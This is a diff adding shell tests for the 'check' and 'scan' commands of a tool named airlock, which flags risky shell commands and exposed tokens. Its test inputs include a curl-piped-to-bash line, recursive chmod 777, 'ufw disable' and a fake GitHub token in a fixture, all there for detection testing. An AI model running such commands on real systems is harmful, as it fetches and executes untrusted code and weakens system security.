@@ -162,5 +162,39 @@ check log-verify-tampered 1 'FAILED at entry 0' -- "$A" log verify --dir "$L"
 one_line log-unknown 2 -- "$A" log frobnicate
 check log-missing-dir 1 'No such file' -- "$A" log show --dir "$T/nowhere"
 
+# Inspection: airlock check and airlock scan.
+check check-finding 0 'command:1:12: high widens-access \[CHMOD-WIDEN\]' -- \
+    "$A" check 'cd /srv && sudo chmod -R 777 data'
+check check-marked 0 '^               \^~{21}$' -- "$A" check 'cd /srv && sudo chmod -R 777 data'
+check check-clean 0 '^no findings$' -- "$A" check 'ls -la && git status'
+check check-json 0 '^\{"findings":\[\{"category":"remote-code","severity":"critical","start":0,"end":20,"text":"curl -s https://x.sh"' -- \
+    "$A" check --json 'curl -s https://x.sh | bash'
+check check-fail-on 3 'CURL-TO-SHELL' -- "$A" check --fail-on critical 'curl -s https://x.sh | bash'
+check check-fail-on-below 0 'CHMOD-WIDEN' -- "$A" check --fail-on critical 'chmod 777 /srv'
+check check-parse 3 'opaque \[parse\]' -- "$A" check --fail-on high "echo 'unclosed"
+one_line check-no-command 2 -- "$A" check
+one_line check-two-commands 2 -- "$A" check ls pwd
+one_line check-bad-severity 2 -- "$A" check --fail-on severe ls
+printf 'x\tdestructive\thigh\tcmd rm\twhy\n' > "$T/bad.tsv"
+one_line check-bad-rules 1 -- "$A" check --rules "$T/bad.tsv" ls
+check check-bad-rules-line 1 'line 1: expected six' -- "$A" check --rules "$T/bad.tsv" ls
+printf 'X\tdestructive\thigh\tcmd frob\tfrobs\tfrob\n' > "$T/rules.tsv"
+check check-own-rules 0 'destructive \[X\]' -- "$A" check --rules "$T/rules.tsv" 'sudo frob it'
+printf 'Try:\n\n```console\n$ chmod 777 /srv\nok\n```\n\nor `ufw disable`; token 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\n' > "$T/msg.md"
+check scan-file 0 "$T/msg.md:4:3: high widens-access \\[CHMOD-WIDEN\\]" -- "$A" scan "$T/msg.md"
+check scan-inline 0 'UFW-DISABLE' -- "$A" scan "$T/msg.md"
+check scan-starred 0 'ghp_\*{36}' -- "$A" scan "$T/msg.md"
+check scan-no-secret-shown 0 '^hidden$' -- bash -c "if \"$A\" scan \"$T/msg.md\" | grep -q R7kLq; then echo shown; else echo hidden; fi"
+check scan-stdin 3 '^stdin:8:25: critical' -- bash -c "\"$A\" scan --fail-on critical - < \"$T/msg.md\""
+check scan-json 0 '"rule":"GITHUB-TOKEN"' -- "$A" scan --json "$T/msg.md"
+check scan-missing 1 'No such file' -- "$A" scan "$T/nowhere.md"
+one_line scan-two-files 2 -- "$A" scan a b
+# INSPECT_MAX_TEXT (16 MiB): as much is read, one byte more is refused.
+head -c $((16 * 1024 * 1024)) /dev/zero | tr '\0' 'a' > "$T/max.txt"
+check scan-max-text 0 '^no findings$' -- "$A" scan "$T/max.txt"
+printf 'a' >> "$T/max.txt"
+one_line scan-over-max-text 1 -- "$A" scan "$T/max.txt"
+check scan-over-max-stdin 1 'larger than inspection reads' -- bash -c "\"$A\" scan - < \"$T/max.txt\""
+
 echo "$passed passed, $failed failed"
 [ "$failed" -eq 0 ]
